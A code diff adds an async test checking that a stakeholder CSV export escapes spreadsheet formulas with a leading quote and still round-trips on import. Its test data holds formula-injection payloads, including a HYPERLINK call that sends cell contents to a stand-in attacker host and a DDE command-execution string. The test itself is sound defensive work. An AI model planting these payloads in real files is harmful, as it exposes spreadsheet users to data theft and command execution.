@@ -107,3 +107,27 @@ async def test_import_stores_times_to_the_millisecond(store: GraphStore, tmp_pat
         assert report.ok, report.bad
     for kind in KINDS:
         assert await export_text(store, kind, "jsonl") == EXPECTED_JSONL[kind]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)",
+            "\uff1d1+1", "'quoted already", "''twice"]
+
+
+async def test_csv_export_is_spreadsheet_safe_and_still_round_trips(store: GraphStore, tmp_path: Path) -> None:
+    """Text cells that a spreadsheet would run as formulas are escaped with a leading quote
+    (and so is a text that starts with one); import undoes it, byte for byte."""
+    rows = [{"id": f"f{i}", "kind": "CUSTOMER", "form": "ORGANIZATION", "name": name, "notes": name,
+             "tags": [name, "ok"], "industry": "=1+1"} for i, name in enumerate(FORMULAS)]
+    await store.upsert_stakeholders(rows)
+    first = await export_text(store, "stakeholders", "csv")
+    records = list(csv.DictReader(io.StringIO(first, newline="")))
+    for record in records:
+        for column in ("name", "notes", "tags", "industry"):
+            assert record[column][0] == "'", (column, record[column])
+    assert {r["name"] for r in records} == {"'" + name for name in FORMULAS}
+    await store.runner.clear()
+    report = await import_file(store, write_file(tmp_path / "formulas.csv", first), "stakeholders")
+    assert report.ok, report.bad
+    stored = await store.stakeholders([r["id"] for r in rows])
+    assert sorted((s.name, tuple(s.tags)) for s in stored if s) == sorted((n, (n, "ok")) for n in FORMULAS)
+    assert await export_text(store, "stakeholders", "csv") == first
